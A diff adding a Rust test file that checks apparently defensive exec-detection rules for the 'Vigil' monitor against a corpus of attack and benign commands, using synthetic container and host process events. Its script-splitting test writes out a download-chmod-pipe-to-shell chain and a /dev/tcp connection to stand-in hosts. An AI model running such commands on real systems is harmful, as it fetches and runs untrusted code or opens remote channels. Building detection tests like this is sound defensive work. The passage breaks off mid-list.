@@ -1,0 +1,1349 @@
+//! Vigil's bundled rule files (plugins/declarative/rules/*.yaml) over the
+//! detection corpus (tests/fixtures/detections.toml).
+//!
+//! Each case's argv is turned into the exec events the kernel would report
+//! for it: the command itself, with the parents a real `docker exec` (runc
+//! under containerd's shim) or a login shell on the host gives it, and, for
+//! `sh -c SCRIPT`, the programs the script runs (split on pipes, lists and
+//! substitutions, with redirections, assignments and builtins removed, and
+//! wrappers such as `timeout` and `env` run as their own processes). In a
+//! container, only busybox applets (and files the script made) exist, so the
+//! children that could not be exec'd there are left out of what an attack is
+//! required to fire on; the same for the host with tools that a host may not
+//! have. Benign cases are held to every event, present or not.
+//!
+//! An attack passes when its expected rule fires on one of its events; a
+//! benign case when no rule fires on any. All files must load with every rule
+//! loaded.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use serde::Deserialize;
+use vigil_event::packed::{BatchView, encode_batch};
+use vigil_event::{Ancestor, Container, Event, EventKind, Process, Runtime};
+use vigil_rulelang::{RuleSet, SourceFile, Status};
+
+#[derive(Debug, Deserialize)]
+struct Corpus {
+    case: Vec<Case>,
+}
+
+#[derive(Debug, Deserialize)]
+struct Case {
+    name: String,
+    #[serde(rename = "where")]
+    place: String,
+    argv: Vec<String>,
+    expect: String,
+    tactic: String,
+}
+
+fn workspace() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+fn rule_files() -> Vec<SourceFile> {
+    let dir = workspace().join("plugins/declarative/rules");
+    let mut paths: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
+        .map(|e| e.unwrap().path())
+        .filter(|p| matches!(p.extension().and_then(|e| e.to_str()), Some("yaml" | "yml")))
+        .collect();
+    paths.sort();
+    assert!(!paths.is_empty(), "no rule files in {}", dir.display());
+    paths
+        .iter()
+        .map(|p| {
+            let name = p.file_name().unwrap().to_string_lossy().into_owned();
+            SourceFile::new(name, std::fs::read_to_string(p).unwrap())
+        })
+        .collect()
+}
+
+fn corpus() -> Vec<Case> {
+    let path = workspace().join("tests/fixtures/detections.toml");
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    let corpus: Corpus = toml::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    corpus.case
+}
+
+// ---------------------------------------------------------------- where things run
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Place {
+    Container,
+    Host,
+}
+
+/// Applets of the busybox image (1.36): what a container case can exec.
+const BUSYBOX: &[&str] = &[
+    "[",
+    "[[",
+    "addgroup",
+    "adduser",
+    "ar",
+    "arch",
+    "arp",
+    "ash",
+    "awk",
+    "base32",
+    "base64",
+    "basename",
+    "bc",
+    "blkid",
+    "bunzip2",
+    "bzcat",
+    "bzip2",
+    "cal",
+    "cat",
+    "chgrp",
+    "chmod",
+    "chown",
+    "chroot",
+    "chrt",
+    "chvt",
+    "cksum",
+    "clear",
+    "cmp",
+    "cp",
+    "cpio",
+    "crond",
+    "crontab",
+    "cut",
+    "date",
+    "dc",
+    "dd",
+    "deallocvt",
+    "delgroup",
+    "deluser",
+    "depmod",
+    "df",
+    "diff",
+    "dirname",
+    "dmesg",
+    "dnsdomainname",
+    "dos2unix",
+    "du",
+    "dumpkmap",
+    "echo",
+    "ed",
+    "egrep",
+    "env",
+    "expand",
+    "expr",
+    "factor",
+    "fallocate",
+    "false",
+    "fdisk",
+    "fgrep",
+    "find",
+    "findfs",
+    "flock",
+    "fold",
+    "free",
+    "fsck",
+    "fstrim",
+    "fsync",
+    "ftpget",
+    "ftpput",
+    "fuser",
+    "getopt",
+    "grep",
+    "groups",
+    "gunzip",
+    "gzip",
+    "halt",
+    "hd",
+    "head",
+    "hexdump",
+    "hostid",
+    "hostname",
+    "httpd",
+    "hwclock",
+    "id",
+    "ifconfig",
+    "insmod",
+    "install",
+    "ionice",
+    "iostat",
+    "ip",
+    "ipcalc",
+    "kill",
+    "killall",
+    "klogd",
+    "less",
+    "link",
+    "ln",
+    "logger",
+    "login",
+    "logname",
+    "losetup",
+    "ls",
+    "lsmod",
+    "lsof",
+    "lsusb",
+    "lzcat",
+    "lzma",
+    "md5sum",
+    "mkdir",
+    "mkfifo",
+    "mknod",
+    "mkswap",
+    "mktemp",
+    "modinfo",
+    "modprobe",
+    "more",
+    "mount",
+    "mv",
+    "nc",
+    "netstat",
+    "nice",
+    "nl",
+    "nmeter",
+    "nohup",
+    "nproc",
+    "nsenter",
+    "nslookup",
+    "od",
+    "passwd",
+    "paste",
+    "patch",
+    "pgrep",
+    "pidof",
+    "ping",
+    "pivot_root",
+    "pkill",
+    "pmap",
+    "poweroff",
+    "printenv",
+    "printf",
+    "ps",
+    "pwd",
+    "readlink",
+    "realpath",
+    "reboot",
+    "renice",
+    "reset",
+    "rev",
+    "rm",
+    "rmdir",
+    "rmmod",
+    "route",
+    "run-parts",
+    "script",
+    "sed",
+    "seq",
+    "setsid",
+    "sh",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "shred",
+    "shuf",
+    "sleep",
+    "sort",
+    "split",
+    "stat",
+    "strings",
+    "stty",
+    "su",
+    "sum",
+    "swapoff",
+    "swapon",
+    "switch_root",
+    "sync",
+    "sysctl",
+    "syslogd",
+    "tac",
+    "tail",
+    "tar",
+    "tee",
+    "telnet",
+    "test",
+    "tftp",
+    "time",
+    "timeout",
+    "top",
+    "touch",
+    "tr",
+    "traceroute",
+    "true",
+    "truncate",
+    "tty",
+    "udhcpc",
+    "umount",
+    "uname",
+    "uniq",
+    "unlink",
+    "unshare",
+    "unxz",
+    "unzip",
+    "uptime",
+    "usleep",
+    "uudecode",
+    "uuencode",
+    "vi",
+    "watch",
+    "wc",
+    "wget",
+    "which",
+    "whoami",
+    "xargs",
+    "xxd",
+    "xz",
+    "xzcat",
+    "yes",
+    "zcat",
+];
+
+/// What every Linux host has (coreutils, findutils, grep, sed, tar, gzip,
+/// util-linux, procps, kmod, bash). Other tools (curl, nc, python, nmap,
+/// iptables, sudo...) may be missing, so a host attack must not rely on them.
+const HOST_CERTAIN: &[&str] = &[
+    "sh",
+    "bash",
+    "dash",
+    "cat",
+    "chmod",
+    "chown",
+    "cp",
+    "mv",
+    "rm",
+    "ln",
+    "touch",
+    "mkdir",
+    "rmdir",
+    "ls",
+    "find",
+    "grep",
+    "egrep",
+    "sed",
+    "awk",
+    "tar",
+    "gzip",
+    "head",
+    "tail",
+    "tee",
+    "dd",
+    "env",
+    "timeout",
+    "nohup",
+    "setsid",
+    "nice",
+    "sleep",
+    "date",
+    "id",
+    "uname",
+    "hostname",
+    "ps",
+    "mount",
+    "umount",
+    "nsenter",
+    "unshare",
+    "chroot",
+    "insmod",
+    "rmmod",
+    "modprobe",
+    "mkfifo",
+    "shred",
+    "truncate",
+    "base64",
+    "stat",
+    "du",
+    "df",
+    "sort",
+    "cut",
+    "tr",
+    "wc",
+    "xargs",
+    "script",
+    "run-parts",
+    "true",
+    "false",
+    "test",
+    "printf",
+    "echo",
+    "kill",
+    "uniq",
+    "readlink",
+    "basename",
+    "dirname",
+    "strings",
+    "od",
+    "unlink",
+    "install",
+    "mktemp",
+    "realpath",
+    "seq",
+    "sha256sum",
+];
+
+/// Shell words that run no program of their own.
+const BUILTINS: &[&str] = &[
+    "echo", "printf", "export", "unset", "history", "cd", "set", "true", "false", "test", "[", "[[", "read", "eval",
+    "source", ".", ":", "exit", "return", "shift", "local", "alias", "umask", "wait", "trap", "type", "shopt",
+    "ulimit", "readonly", "declare", "typeset", "let", "break", "continue", "getopts", "hash", "kill", "pwd",
+];
+
+const KEYWORDS: &[&str] = &["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "esac"];
+
+fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+fn comm_of(path: &str) -> String {
+    basename(path).chars().take(15).collect()
+}
+
+/// The executable a program name resolves to, and whether it surely exists.
+fn resolve(place: Place, program: &str, made: &BTreeSet<String>) -> (String, bool) {
+    let name = basename(program);
+    if program.starts_with('/') {
+        let in_temp = ["/tmp/", "/dev/shm/", "/var/tmp/", "/proc/"].iter().any(|p| program.starts_with(p));
+        let exists =
+            in_temp && (made.contains(program) || program.starts_with("/proc/")) || (!in_temp && certain(place, name));
+        let exe = match place {
+            Place::Container if !in_temp && BUSYBOX.contains(&name) => "/bin/busybox".to_string(),
+            _ => program.to_string(),
+        };
+        return (exe, exists);
+    }
+    match place {
+        Place::Container if BUSYBOX.contains(&name) => ("/bin/busybox".to_string(), true),
+        Place::Container => (format!("/usr/bin/{name}"), false),
+        Place::Host => (format!("/usr/bin/{name}"), certain(place, name)),
+    }
+}
+
+fn certain(place: Place, name: &str) -> bool {
+    match place {
+        Place::Container => BUSYBOX.contains(&name),
+        Place::Host => HOST_CERTAIN.contains(&name),
+    }
+}
+
+// ---------------------------------------------------------------- shell scripts
+
+/// The simple commands of a shell script, as argv lists (redirections and
+/// assignments removed; pipes, lists, subshells, `$(...)`, backquotes and
+/// `<(...)` split into their own commands).
+fn simple_commands(script: &str) -> Vec<Vec<String>> {
+    let mut commands = Vec::new();
+    let mut words: Vec<String> = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut skip_next = false;
+    let chars: Vec<char> = script.chars().collect();
+    let mut i = 0;
+
+    fn end_word(word: &mut String, in_word: &mut bool, words: &mut Vec<String>, skip_next: &mut bool) {
+        if *in_word {
+            if *skip_next {
+                *skip_next = false;
+            } else {
+                words.push(std::mem::take(word));
+            }
+        }
+        word.clear();
+        *in_word = false;
+    }
+    fn end_command(words: &mut Vec<String>, commands: &mut Vec<Vec<String>>) {
+        if !words.is_empty() {
+            commands.push(std::mem::take(words));
+        }
+    }
+
+    while i < chars.len() {
+        let c = chars[i];
+        match c {
+            '\'' => {
+                in_word = true;
+                i += 1;
+                while i < chars.len() && chars[i] != '\'' {
+                    word.push(chars[i]);
+                    i += 1;
+                }
+            }
+            '"' => {
+                in_word = true;
+                i += 1;
+                while i < chars.len() && chars[i] != '"' {
+                    if chars[i] == '\\' && i + 1 < chars.len() && matches!(chars[i + 1], '"' | '\\' | '$' | '`') {
+                        i += 1;
+                    }
+                    word.push(chars[i]);
+                    i += 1;
+                }
+            }
+            '\\' => {
+                in_word = true;
+                if i + 1 < chars.len() {
+                    i += 1;
+                    word.push(chars[i]);
+                }
+            }
+            c if c.is_whitespace() && c != '\n' => end_word(&mut word, &mut in_word, &mut words, &mut skip_next),
+            '>' | '<' => {
+                // An fd number written right before the operator belongs to it.
+                if in_word && word.chars().all(|d| d.is_ascii_digit()) {
+                    word.clear();
+                    in_word = false;
+                } else {
+                    end_word(&mut word, &mut in_word, &mut words, &mut skip_next);
+                }
+                if c == '<' && chars.get(i + 1) == Some(&'(') {
+                    // <( ... ): a command of its own.
+                    end_command(&mut words, &mut commands);
+                    i += 2;
+                    continue;
+                }
+                i += 1;
+                while i < chars.len() && matches!(chars[i], '>' | '<' | '&' | '|') {
+                    i += 1;
+                }
+                while i < chars.len() && chars[i] == ' ' {
+                    i += 1;
+                }
+                // The target word is skipped.
+                skip_next = true;
+                continue;
+            }
+            '&' if chars.get(i + 1) == Some(&'>') => {
+                end_word(&mut word, &mut in_word, &mut words, &mut skip_next);
+                i += 1;
+                continue;
+            }
+            '$' if chars.get(i + 1) == Some(&'(') => {
+                end_word(&mut word, &mut in_word, &mut words, &mut skip_next);
+                end_command(&mut words, &mut commands);
+                i += 2;
+                continue;
+            }
+            '|' | '&' | ';' | '\n' | '(' | ')' | '`' => {
+                end_word(&mut word, &mut in_word, &mut words, &mut skip_next);
+                end_command(&mut words, &mut commands);
+            }
+            c => {
+                in_word = true;
+                word.push(c);
+            }
+        }
+        i += 1;
+    }
+    end_word(&mut word, &mut in_word, &mut words, &mut skip_next);
+    end_command(&mut words, &mut commands);
+
+    commands
+        .into_iter()
+        .filter_map(|mut argv| {
+            loop {
+                let first = argv.first()?;
+                let assignment = first
+                    .split_once('=')
+                    .is_some_and(|(k, _)| !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
+                if assignment || KEYWORDS.contains(&first.as_str()) {
+                    argv.remove(0);
+                } else {
+                    break;
+                }
+            }
+            if matches!(argv.first()?.as_str(), "for" | "case" | "in" | "function") || argv[0].ends_with("()") {
+                return None;
+            }
+            Some(argv)
+        })
+        .collect()
+}
+
+/// If `argv` is a shell given a command string, the script.
+fn shell_script(argv: &[String]) -> Option<&str> {
+    const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh"];
+    if !SHELLS.contains(&basename(argv.first()?)) {
+        return None;
+    }
+    let mut command_string = false;
+    for a in &argv[1..] {
+        if a.starts_with('-') && a.len() > 1 && !a.starts_with("--") {
+            command_string |= a.contains('c');
+        } else if a.starts_with("--") {
+        } else {
+            return command_string.then_some(a.as_str());
+        }
+    }
+    None
+}
+
+/// Program wrappers and how many words of options/arguments they take
+/// before the program they run (`None`: read options until a non-option).
+fn wrapper_skip(argv: &[String]) -> Option<usize> {
+    let name = basename(&argv[0]);
+    let mut i = 1;
+    let options = |i: &mut usize| {
+        while *i < argv.len() && argv[*i].starts_with('-') {
+            *i += 1;
+        }
+    };
+    match name {
+        "timeout" => {
+            options(&mut i);
+            i += 1; // the duration
+        }
+        "nohup" | "setsid" | "stdbuf" | "nice" | "ionice" | "sudo" | "chrt" | "taskset" => {
+            options(&mut i);
+            if matches!(name, "nice") && argv.get(1).is_some_and(|a| a == "-n") {
+                i = 3;
+            }
+        }
+        "env" => {
+            options(&mut i);
+            while i < argv.len() && argv[i].contains('=') {
+                i += 1;
+            }
+        }
+        _ => return None,
+    }
+    (i < argv.len()).then_some(i)
+}
+
+// ---------------------------------------------------------------- events
+
+struct Builder {
+    place: Place,
+    next_pid: u32,
+    /// Files the script made (cp/touch/wget -O targets), so executable later.
+    made: BTreeSet<String>,
+    container: Option<Arc<Container>>,
+    /// (event, whether its program surely exists there)
+    events: Vec<(Event, bool)>,
+}
+
+const CONTAINER_ID: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+
+fn ancestor(pid: u32, exe: &str, argv: &[&str]) -> Ancestor {
+    Ancestor {
+        pid,
+        comm: Arc::from(comm_of(exe).as_str()),
+        exe: Arc::from(exe),
+        argv: argv.iter().map(|s| s.to_string()).collect::<Vec<_>>().into(),
+    }
+}
+
+impl Builder {
+    fn new(place: Place) -> Self {
+        let container = (place == Place::Container).then(|| {
+            Arc::new(Container {
+                id: CONTAINER_ID.into(),
+                name: "vigil-detections".into(),
+                image: "busybox:1.36".into(),
+                runtime: Runtime::Docker,
+                labels: vec![("purpose".into(), "vigil-corpus".into())],
+                pid: 700,
+                ..Default::default()
+            })
+        });
+        Builder { place, next_pid: 5000, made: BTreeSet::new(), container, events: Vec::new() }
+    }
+
+    /// The parents of the case's first process.
+    fn top_parents(&self) -> Vec<Ancestor> {
+        match self.place {
+            Place::Container => vec![
+                ancestor(
+                    950,
+                    "/usr/bin/runc",
+                    &[
+                        "runc",
+                        "--root",
+                        "/var/run/docker/runtime-runc/moby",
+                        "--log",
+                        "/run/containerd/io.containerd.runtime.v2.task/moby/9f86d081884c/log.json",
+                        "--log-format",
+                        "json",
+                        "exec",
+                        "--process",
+                        "/tmp/runc-process2261",
+                        "--detach",
+                        "--pid-file",
+                        "/run/containerd/io.containerd.runtime.v2.task/moby/9f86d081884c/exec.pid",
+                        CONTAINER_ID,
+                    ],
+                ),
+                ancestor(
+                    690,
+                    "/usr/bin/containerd-shim-runc-v2",
+                    &[
+                        "/usr/bin/containerd-shim-runc-v2",
+                        "-namespace",
+                        "moby",
+                        "-id",
+                        CONTAINER_ID,
+                        "-address",
+                        "/run/containerd/containerd.sock",
+                    ],
+                ),
+                ancestor(1, "/usr/lib/systemd/systemd", &["/sbin/init"]),
+            ],
+            Place::Host => vec![
+                ancestor(3100, "/usr/bin/bash", &["-bash"]),
+                ancestor(3050, "/usr/sbin/sshd", &["sshd: admin@pts/0"]),
+                ancestor(900, "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"]),
+                ancestor(1, "/usr/lib/systemd/systemd", &["/sbin/init"]),
+            ],
+        }
+    }
+
+    /// Adds the exec of `argv` (and what it runs) under `parents`.
+    fn exec(&mut self, argv: Vec<String>, parents: Vec<Ancestor>, exists: bool, depth: usize) {
+        if argv.is_empty() || depth > 6 {
+            return;
+        }
+        // `exec [-a NAME] PROGRAM ARGS`: the shell itself becomes the program.
+        if argv[0] == "exec" {
+            let mut rest = argv[1..].to_vec();
+            let mut name = None;
+            if rest.first().is_some_and(|a| a == "-a") && rest.len() > 2 {
+                name = Some(rest[1].clone());
+                rest.drain(..2);
+            }
+            if rest.is_empty() {
+                return;
+            }
+            let program = rest[0].clone();
+            if let Some(name) = name {
+                rest[0] = name;
+            }
+            let (exe, ok) = resolve(self.place, &program, &self.made);
+            // Replaces the shell: its parents are the shell's parents.
+            let grandparents = parents.into_iter().skip(1).collect();
+            self.push(program.as_str(), exe, rest, grandparents, exists && ok, depth);
+            return;
+        }
+        if BUILTINS.contains(&argv[0].as_str()) && depth > 0 {
+            return;
+        }
+        let (exe, ok) = resolve(self.place, &argv[0], &self.made);
+        let program = argv[0].clone();
+        self.push(&program, exe, argv, parents, exists && ok, depth);
+    }
+
+    fn push(
+        &mut self,
+        program: &str,
+        exe: String,
+        argv: Vec<String>,
+        parents: Vec<Ancestor>,
+        exists: bool,
+        depth: usize,
+    ) {
+        self.next_pid += 1;
+        let pid = self.next_pid;
+        let process = Process {
+            pid,
+            tgid: pid,
+            ppid: parents.first().map_or(0, |a| a.pid),
+            uid: 0,
+            gid: 0,
+            comm: comm_of(program),
+            exe: exe.clone(),
+            argv: argv.clone(),
+            cwd: "/".into(),
+            ancestry: parents.clone(),
+            ..Default::default()
+        };
+        let event = Event {
+            id: pid as u64,
+            time_ns: 1_763_000_000_000_000_000 + pid as u64,
+            process: Some(process),
+            container: self.container.clone(),
+            ..Event::new(EventKind::ProcessExec)
+        };
+        self.events.push((event, exists));
+
+        // Files this command makes become executable paths later in the script.
+        let name = basename(program);
+        if matches!(name, "cp" | "touch" | "wget" | "curl" | "mv" | "install") {
+            if let Some(last) = argv.last().filter(|a| a.starts_with('/')) {
+                self.made.insert(last.clone());
+            }
+            if let Some(i) = argv.iter().position(|a| a == "-O" || a == "-o")
+                && let Some(t) = argv.get(i + 1)
+            {
+                self.made.insert(t.clone());
+            }
+        }
+
+        let me = Ancestor {
+            pid,
+            comm: Arc::from(comm_of(program).as_str()),
+            exe: Arc::from(exe.as_str()),
+            argv: argv.clone().into(),
+        };
+        let mut below: Vec<Ancestor> = vec![me];
+        below.extend(parents.into_iter().take(7));
+
+        if let Some(script) = shell_script(&argv) {
+            for cmd in simple_commands(script) {
+                self.exec(cmd, below.clone(), exists, depth + 1);
+            }
+        } else if let Some(skip) = wrapper_skip(&argv) {
+            self.exec(argv[skip..].to_vec(), below, exists, depth + 1);
+        } else if name == "find" {
+            // find ... -exec PROGRAM ARGS ; (run once here, for the first file found).
+            if let Some(i) = argv.iter().position(|a| a == "-exec" || a == "-execdir") {
+                let cmd: Vec<String> = argv[i + 1..].iter().take_while(|a| *a != ";" && *a != "+").cloned().collect();
+                self.exec(cmd, below, exists, depth + 1);
+            }
+        }
+    }
+}
+
+/// The case's events in `place`, each with whether it surely happens there.
+fn events(case: &Case, place: Place) -> Vec<(Event, bool)> {
+    let mut b = Builder::new(place);
+    let parents = b.top_parents();
+    b.exec(case.argv.clone(), parents, true, 0);
+    b.events
+}
+
+fn fired<'r>(rules: &'r RuleSet, event: &Event) -> Vec<(&'r str, String)> {
+    let mut bytes = Vec::new();
+    encode_batch([event], &mut bytes);
+    let batch = BatchView::new(&bytes).expect("own encoding");
+    rules.matches(batch.get(0).expect("one event")).into_iter().map(|m| (m.name, m.message)).collect()
+}
+
+fn describe(e: &Event) -> String {
+    let p = e.process.as_ref().unwrap();
+    format!("[{} {} parent={}] {:?}", p.comm, p.exe, p.ancestry.first().map_or("-", |a| &*a.comm), p.argv)
+}
+
+// ---------------------------------------------------------------- the test
+
+#[test]
+fn bundled_rules_load_cleanly() {
+    let (rules, report) = RuleSet::load(&rule_files());
+    let mut problems = Vec::new();
+    for f in &report.files {
+        if let Some(e) = &f.error {
+            problems.push(format!("{}: {e}", f.name));
+        }
+        for w in &f.warnings {
+            problems.push(format!("{}: {w}", f.name));
+        }
+        for r in &f.rules {
+            if r.status != Status::Loaded {
+                problems.push(format!("{}: rule {:?} is {}: {:?}", f.name, r.name, r.status.name(), r.reason));
+            }
+            if r.kinds != ["process-exec"] {
+                problems.push(format!("{}: rule {:?} is evaluated on {:?}, not only exec", f.name, r.name, r.kinds));
+            }
+        }
+    }
+    assert!(problems.is_empty(), "rule files do not load cleanly:\n{}", problems.join("\n"));
+    assert!(rules.rules().len() >= 60, "only {} rules loaded", rules.rules().len());
+    for r in rules.rules() {
+        assert!(r.tags.iter().any(|t| t.starts_with('T')), "rule {:?} has no ATT&CK technique tag", r.name);
+    }
+}
+
+/// Falco anchors `regex` at both ends (RE2 ANCHOR_BOTH); every bundled
+/// pattern must mean the same whether or not the engine anchors it.
+#[test]
+fn bundled_regexes_hold_anchored_or_not() {
+    let mut seen = 0;
+    for file in rule_files() {
+        let mut rest = file.text.as_str();
+        while let Some(at) = rest.find("regex \"") {
+            rest = &rest[at + 7..];
+            let mut end = 0;
+            let bytes = rest.as_bytes();
+            while end < bytes.len() && bytes[end] != b'"' {
+                end += if bytes[end] == b'\\' { 2 } else { 1 };
+            }
+            let pattern = &rest[..end];
+            let ok = (pattern.starts_with("(?s).*(?:")
+                || pattern.starts_with("(?si).*(?:")
+                || pattern.starts_with("(?s)^(?:")
+                || pattern.starts_with("(?si)^(?:"))
+                && (pattern.ends_with(").*") || pattern.ends_with("$"));
+            assert!(ok, "{}: regex not written to hold anchored and unanchored: {pattern}", file.name);
+            seen += 1;
+            rest = &rest[end..];
+        }
+    }
+    assert!(seen > 100, "only {seen} regexes found");
+}
+
+/// Falco's parser accepts only \\ and \" (and \b \f \n \r \t \/) in a
+/// "-quoted string and rejects any other escape; the bundled files use only
+/// the first two, so they load in Falco as they are.
+#[test]
+fn bundled_strings_use_only_falco_escapes() {
+    for file in rule_files() {
+        let bytes = file.text.as_bytes();
+        let mut i = 0;
+        while i < bytes.len() {
+            if bytes[i] == b'\\' {
+                let next = bytes.get(i + 1).copied().unwrap_or(b' ');
+                assert!(
+                    next == b'\\' || next == b'"',
+                    "{}: escape \\{} at byte {i} is not one Falco accepts",
+                    file.name,
+                    next as char
+                );
+                i += 2;
+            } else {
+                i += 1;
+            }
+        }
+    }
+}
+
+#[test]
+fn bundled_rules_over_the_detection_corpus() {
+    let (rules, _) = RuleSet::load(&rule_files());
+    let names: BTreeSet<&str> = rules.rules().iter().map(|r| r.name.as_str()).collect();
+    let cases = corpus();
+
+    let attacks = cases.iter().filter(|c| !c.expect.is_empty()).count();
+    let benign = cases.len() - attacks;
+    assert!(attacks >= 45, "{attacks} attack cases");
+    assert!(benign >= 18, "{benign} benign cases");
+
+    let mut failures = Vec::new();
+    let mut per_tactic: BTreeMap<&str, usize> = BTreeMap::new();
+    let mut covered: BTreeSet<&str> = BTreeSet::new();
+    let mut seen_names = BTreeSet::new();
+    for case in &cases {
+        assert!(seen_names.insert(case.name.as_str()), "duplicate case name {:?}", case.name);
+        assert!(!case.argv.is_empty(), "{}: empty argv", case.name);
+        *per_tactic.entry(case.tactic.as_str()).or_default() += 1;
+        if !case.expect.is_empty() && !names.contains(case.expect.as_str()) {
+            failures.push(format!("{}: expects {:?}, which is no bundled rule", case.name, case.expect));
+            continue;
+        }
+        let places: &[Place] = match case.place.as_str() {
+            "container" => &[Place::Container],
+            "host" => &[Place::Host],
+            "both" => &[Place::Container, Place::Host],
+            other => panic!("{}: where = {other:?}", case.name),
+        };
+        for &place in places {
+            let evs = events(case, place);
+            if case.expect.is_empty() {
+                for (e, _) in &evs {
+                    for (rule, message) in fired(&rules, e) {
+                        failures.push(format!(
+                            "benign {:?} ({place:?}): {rule:?} fired on {}\n    {message}",
+                            case.name,
+                            describe(e)
+                        ));
+                    }
+                }
+            } else {
+                let hit = evs
+                    .iter()
+                    .filter(|(_, sure)| *sure)
+                    .any(|(e, _)| fired(&rules, e).iter().any(|(rule, _)| *rule == case.expect));
+                if hit {
+                    covered.insert(case.expect.as_str());
+                } else {
+                    let seen: Vec<String> = evs
+                        .iter()
+                        .map(|(e, sure)| {
+                            let rules: Vec<&str> = fired(&rules, e).into_iter().map(|(r, _)| r).collect();
+                            format!("    {}{} -> {rules:?}", if *sure { "" } else { "(may not exist) " }, describe(e))
+                        })
+                        .collect();
+                    failures.push(format!(
+                        "attack {:?} ({place:?}): {:?} did not fire; events:\n{}",
+                        case.name,
+                        case.expect,
+                        seen.join("\n")
+                    ));
+                }
+            }
+        }
+    }
+    eprintln!("cases per tactic: {per_tactic:?} ({attacks} attacks, {benign} benign)");
+    let untested: Vec<&&str> = names.iter().filter(|n| !covered.contains(**n)).collect();
+    eprintln!("rules no attack case exercises ({}): {untested:?}", untested.len());
+    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
+}
+
+#[test]
+fn script_splitting() {
+    let cmds = simple_commands("cd /tmp && wget -q http://x -O /tmp/a; chmod +x /tmp/a 2>/dev/null | sh > /tmp/f 2>&1");
+    assert_eq!(
+        cmds,
+        vec![
+            vec!["cd", "/tmp"],
+            vec!["wget", "-q", "http://x", "-O", "/tmp/a"],
+            vec!["chmod", "+x", "/tmp/a"],
+            vec!["sh"],
+        ]
+    );
+    let cmds = simple_commands("X=1 timeout 1 bash -c 'echo > /dev/tcp/h/1' 3</bin/true; echo $(id -u) `uname`");
+    assert_eq!(cmds[0], vec!["timeout", "1", "bash", "-c", "echo > /dev/tcp/h/1"]);
+    assert_eq!(cmds[1], vec!["echo"]);
+    assert_eq!(cmds[2], vec!["id", "-u"]);
+    assert_eq!(cmds[3], vec!["uname"]);
+}
+
+/// Prints every case's events and the rules they fire (`--ignored --nocapture`).
+#[test]
+#[ignore]
+fn dump_corpus_alerts() {
+    let (rules, _) = RuleSet::load(&rule_files());
+    for case in corpus() {
+        let places: &[Place] = match case.place.as_str() {
+            "container" => &[Place::Container],
+            "host" => &[Place::Host],
+            _ => &[Place::Container, Place::Host],
+        };
+        for &place in places {
+            println!("== {} ({place:?}) expect {:?}", case.name, case.expect);
+            for (e, sure) in events(&case, place) {
+                let fired: Vec<(&str, String)> = fired(&rules, &e);
+                println!("  {}{}", if sure { "" } else { "? " }, describe(&e));
+                for (r, m) in fired {
+                    println!("     -> {r}: {m}");
+                }
+            }
+        }
+    }
+}
+
+/// What busy hosts and clusters run all day, with the parents they run under:
+/// none of it may alert. Synthetic (not run for real), so anything goes.
+#[test]
+fn routine_activity_stays_quiet() {
+    let (rules, _) = RuleSet::load(&rule_files());
+    // (image or "" for the host, exe, argv, parents as (exe, argv), parent first)
+    type Routine<'a> = (&'a str, &'a str, &'a [&'a str], &'a [(&'a str, &'a [&'a str])]);
+    let systemd: (&str, &[&str]) = ("/usr/lib/systemd/systemd", &["/sbin/init"]);
+    let shim: (&str, &[&str]) =
+        ("/usr/bin/containerd-shim-runc-v2", &["containerd-shim-runc-v2", "-namespace", "k8s.io"]);
+    let runc: (&str, &[&str]) = ("/usr/bin/runc", &["runc", "exec", "--process", "/tmp/runc-process1"]);
+    let dpkg: (&str, &[&str]) = ("/usr/bin/dpkg", &["dpkg", "--configure", "-a"]);
+    let apt: (&str, &[&str]) = ("/usr/bin/apt-get", &["apt-get", "install", "-y", "openssh-server"]);
+    let cron: (&str, &[&str]) = ("/usr/sbin/cron", &["/usr/sbin/cron", "-f"]);
+    let cron_sh: (&str, &[&str]) = ("/usr/bin/dash", &["/bin/sh", "-c", "cd / && run-parts --report /etc/cron.daily"]);
+    let logrotate: (&str, &[&str]) = ("/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"]);
+    let dockerd: (&str, &[&str]) = ("/usr/bin/dockerd", &["/usr/bin/dockerd", "-H", "fd://"]);
+    let kube_proxy: (&str, &[&str]) =
+        ("/usr/local/bin/kube-proxy", &["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"]);
+    let calico: (&str, &[&str]) = ("/usr/bin/calico-node", &["calico-node", "-felix"]);
+    let git: (&str, &[&str]) = ("/usr/bin/git", &["git", "fetch", "origin"]);
+    let java: (&str, &[&str]) = ("/opt/java/openjdk/bin/java", &["java", "-jar", "/app/app.jar"]);
+    let entry_sh: (&str, &[&str]) = ("/bin/busybox", &["sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;"]);
+    let bash: (&str, &[&str]) = ("/usr/bin/bash", &["-bash"]);
+    let sshd: (&str, &[&str]) = ("/usr/sbin/sshd", &["sshd: admin@pts/0"]);
+    let kworker: (&str, &[&str]) = ("", &[]);
+    let routine: &[Routine] = &[
+        ("", "/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"], &[systemd]),
+        ("", "/usr/bin/gzip", &["/bin/gzip", "/var/log/syslog.1"], &[logrotate, systemd]),
+        ("", "/usr/bin/dash", &["/bin/sh", "-c", "invoke-rc.d rsyslog rotate > /dev/null"], &[logrotate, systemd]),
+        ("", "/usr/bin/rm", &["rm", "-f", "/var/log/nginx/access.log.5.gz"], &[cron_sh, cron, systemd]),
